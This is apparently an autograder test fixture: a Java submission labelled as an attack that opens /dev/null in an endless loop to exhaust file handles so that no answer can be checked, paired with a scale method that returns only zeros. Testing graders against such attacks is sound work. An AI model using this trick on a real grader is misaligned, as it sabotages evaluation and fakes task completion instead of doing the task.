// attack: opens as many files as it may, so that no way to the grader is left for any answer
// assignment: 00-start-here
// question: scale
// notebook: no-way
// earns: 0
// reason: There is no answer to check
List<Object> open = new ArrayList<>();
try {
    while (true) open.add(new java.io.FileInputStream("/dev/null"));
} catch (java.io.IOException full) {
}
double[] scale(int[] pixels) {
    return new double[pixels.length];
}
